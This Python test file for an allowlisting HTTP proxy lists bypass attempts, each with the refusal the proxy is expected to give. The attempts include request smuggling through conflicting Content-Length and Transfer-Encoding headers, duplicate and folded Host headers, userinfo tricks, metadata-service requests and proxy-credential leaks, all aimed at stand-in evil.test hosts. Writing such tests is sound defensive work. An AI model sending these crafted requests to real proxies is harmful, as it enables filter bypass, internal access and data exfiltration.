"""Plain requests through the proxy: to other hosts, for other hosts, and within each other."""

import urllib.error
import urllib.request

import addresses
import wire
from attempt import THROUGH, Attempt, Denied

UNLISTED = "403 unlisted"
# A head that can be read in two ways ends the connection.
MALFORMED = "400 malformed(, closed)?"
FIRST = "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n"
SMUGGLED = "GET http://{token}.evil.test/ HTTP/1.1\r\nHost: {token}.evil.test\r\n\r\n"


def request(text, count=1):
    return lambda token: wire.exchange(text.replace("{token}", token), count)


def get(target, host, *headers):
    lines = [f"GET {target} HTTP/1.1", f"Host: {host}", *headers]
    return "\r\n".join(lines) + "\r\n\r\n"


def hidden(headers, body):
    """A request whose body, or what one may take for it, is another request."""
    body = body.replace("{smuggled}", SMUGGLED)

    def make(token):
        inner = body.replace("{token}", token)
        lines = headers.replace("{length}", str(len(inner)))
        head = f"POST http://good.test/ HTTP/1.1\r\nHost: good.test\r\n{lines}\r\n\r\n"
        return wire.exchange(head + inner, 2)

    return make


def redirected(token):
    """Follows a redirect of an allowed host, as libraries do."""
    target = f"http://{token}.evil.test/".encode().hex()
    try:
        urllib.request.urlopen(f"http://good.test/to/{target}").read()
    except urllib.error.HTTPError as error:
        raise Denied(
            f"{error.code} {error.headers.get('X-Ringfence-Denied', '')}".strip()
        ) from error
    return THROUGH


def forwarded_file(token):
    stream = wire.to_proxy()
    stream.sendall(
        f"GET ftp://{token}.evil.test/ HTTP/1.1\r\nHost: {token}.evil.test\r\n\r\n".encode()
    )
    answer = wire.more(stream)
    if answer.startswith(b"220"):
        return THROUGH
    return wire.summary(wire.head_of(stream, answer)[0])[0]


def huge(token):
    filler = "".join(f"X-{number}: {'x' * 1000}\r\n" for number in range(300))
    return wire.exchange(
        f"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n{filler}X: {token}\r\n\r\n"
    )


def in_turn(*requests):
    """Sends each request after the answer to the one before."""
    stream, found = wire.to_proxy(), []
    for text in requests:
        stream.sendall(text.encode())
        found += wire.answers(stream, 1)
    return found


UPGRADE = (
    "Upgrade: websocket",
    "Connection: upgrade",
    "Sec-WebSocket-Key: eA==",
    "Sec-WebSocket-Version: 13",
)
HIDDEN = "{smuggled}"

ATTEMPTS = [
    Attempt(
        "http-unlisted",
        "ask for a page of an unlisted host",
        request(get("http://{token}.evil.test/", "{token}.evil.test")),
        UNLISTED,
        ruled=True,
    ),
    Attempt(
        "http-address",
        "ask for a page at an address",
        request(get(f"http://{addresses.EVIL}/{{token}}", addresses.EVIL)),
        UNLISTED,
        ruled=True,
    ),
    Attempt(
        "http-metadata",
        "ask for a page of the metadata service",
        request(get(f"http://{addresses.METADATA}/{{token}}", addresses.METADATA)),
        "403 internal",
        ruled=True,
    ),
    Attempt(
        "http-port",
        "ask for a page on another port of an allowed host",
        request(get("http://good.test:8080/{token}", "good.test:8080")),
        UNLISTED,
        ruled=True,
    ),
    Attempt(
        "http-userinfo",
        "ask for a page of a host whose user is called like an allowed one",
        request(get("http://good.test@{token}.evil.test/", "{token}.evil.test")),
        MALFORMED,
    ),
    Attempt(
        "http-userinfo-backslash",
        "the same, with a backslash",
        request(get("http://good.test\\@{token}.evil.test/", "{token}.evil.test")),
        MALFORMED,
    ),
    Attempt(
        "http-fragment",
        "ask for a page of a host, with an allowed one behind a hash",
        request(get("http://{token}.evil.test#@good.test/", "{token}.evil.test")),
        f"{UNLISTED}|{MALFORMED}",
    ),
    Attempt(
        "http-host-other",
        "ask an allowed host for a page of another",
        request(get("http://good.test/", "{token}.evil.test")),
        "403 other_name",
    ),
    Attempt(
        "http-host-twice",
        "ask with two Host headers",
        request(get("http://good.test/", "good.test", "Host: {token}.evil.test")),
        MALFORMED,
    ),
    Attempt(
        "http-host-folded",
        "ask with a Host header that goes on in the next line",
        request(get("http://good.test/", "good.test", " {token}.evil.test")),
        MALFORMED,
    ),
    Attempt(
        "http-host-space",
        "ask with a space before the colon of a second Host header",
        request(get("http://good.test/", "good.test", "Host : {token}.evil.test")),
        MALFORMED,
    ),
    Attempt(
        "http-nul",
        "ask with a NUL in a header",
        request(get("http://good.test/", "good.test", "X: a\0{token}")),
        MALFORMED,
    ),
    Attempt(
        "http-origin-form",
        "ask the proxy as if it were the host",
        request(get("/", "{token}.evil.test")),
        "400 malformed",
    ),
    Attempt(
        "http-old",
        "ask in HTTP/1.0, without a Host header",
        request("GET http://{token}.evil.test/ HTTP/1.0\r\n\r\n"),
        UNLISTED,
        ruled=True,
    ),
    Attempt(
        "http-lower-case",
        "ask for a tunnel in lower case",
        request("connect {token}.evil.test:80 HTTP/1.1\r\nHost: proxy\r\n\r\n"),
        MALFORMED,
    ),
    Attempt(
        "http-redirect", "follow a redirect to an unlisted host", redirected, UNLISTED, ruled=True
    ),
    Attempt(
        "http-second",
        "ask for another host's page on the same connection",
        lambda token: wire.verdict(in_turn(FIRST, SMUGGLED.replace("{token}", token))),
        f"200, {UNLISTED}",
    ),
    Attempt(
        "http-second-origin-form",
        "ask for another host's page on the same connection, by the Host header alone",
        lambda token: wire.verdict(in_turn(FIRST, get("/", f"{token}.evil.test"))),
        "200, 400 malformed",
    ),
    Attempt(
        "http-pipelined",
        "ask for another host's page before the first is there",
        request(FIRST + SMUGGLED, 2),
        f"200, {UNLISTED}",
    ),
    Attempt(
        "http-websocket",
        "open a WebSocket to an unlisted host",
        request(get("http://{token}.evil.test/", "{token}.evil.test", *UPGRADE)),
        UNLISTED,
        ruled=True,
    ),
    Attempt("http-ftp", "ask the proxy to fetch by FTP", forwarded_file, "400 malformed"),
    Attempt(
        "http-bare-line-feeds",
        "hide a request behind bare line feeds",
        request("GET http://good.test/ HTTP/1.1\nHost: good.test\nX: y\n\n" + SMUGGLED, 2),
        MALFORMED,
    ),
    Attempt(
        "http-bare-line-feed",
        "end a head with a bare line feed",
        request(
            "GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\nX: y\n\n"
            + get("/", "{token}.evil.test"),
            2,
        ),
        MALFORMED,
    ),
    Attempt(
        "smuggle-length-and-chunks",
        "hide a request behind a length that chunks contradict",
        hidden("Content-Length: {length}\r\nTransfer-Encoding: chunked", f"0\r\n\r\n{HIDDEN}"),
        MALFORMED,
    ),
    Attempt(
        "smuggle-chunks-and-length",
        "hide a request in chunks that a length contradicts",
        hidden("Transfer-Encoding: chunked\r\nContent-Length: 4", f"0\r\n\r\n{HIDDEN}"),
        MALFORMED,
    ),
    Attempt(
        "smuggle-after-chunks",
        "hide a request behind the last chunk",
        hidden("Transfer-Encoding: chunked", f"0\r\n\r\n{HIDDEN}"),
        "200, closed",
    ),
    Attempt(
        "smuggle-two-lengths",
        "hide a request between two lengths",
        hidden("Content-Length: 0\r\nContent-Length: {length}", HIDDEN),
        MALFORMED,
    ),
    Attempt(
        "smuggle-length-list",
        "hide a request behind a list of lengths",
        hidden("Content-Length: 0, {length}", HIDDEN),
        MALFORMED,
    ),
    Attempt(
        "smuggle-length-sign",
        "hide a request behind a length with a sign",
        hidden("Content-Length: +0", HIDDEN),
        MALFORMED,
    ),
    Attempt(
        "smuggle-unknown-encoding",
        "hide a request behind an encoding that nobody knows",
        hidden("Transfer-Encoding: xchunked\r\nContent-Length: 0", HIDDEN),
        MALFORMED,
    ),
    Attempt(
        "smuggle-folded-encoding",
        "hide a request behind an encoding in the next line",
        hidden("Transfer-Encoding:\r\n chunked\r\nContent-Length: {length}", f"0\r\n\r\n{HIDDEN}"),
        MALFORMED,
    ),
    Attempt(
        "smuggle-tab-encoding",
        "hide a request behind an encoding after a vertical tab",
        hidden("Transfer-Encoding: \x0bchunked", f"0\r\n\r\n{HIDDEN}"),
        MALFORMED,
    ),
    Attempt("huge-head", "ask with a head that does not end", huge, "400 malformed|reset"),
    Attempt(
        "forwarded-headers",
        "ask an allowed host for a page, and the proxy for another in headers that some heed",
        request(
            get(
                "http://good.test/",
                "good.test",
                "X-Forwarded-Host: {token}.evil.test",
                "Forwarded: host={token}.evil.test",
                "X-Original-URL: http://{token}.evil.test/",
            )
        ),
        "through",
        "evil names private host",
    ),
    Attempt(
        "leak-credentials",
        "have the proxy's own credentials passed on",
        request(get("http://good.test/", "good.test", "Proxy-Authorization: Basic {token}")),
        "through",
    ),
    Attempt(
        "leak-connection",
        "have headers between two hops passed on",
        request(
            get(
                "http://good.test/",
                "good.test",
                "Proxy-Connection: {token}",
                "Connection: X-Hop",
                "X-Hop: {token}",
            )
        ),
        "through",
    ),
]
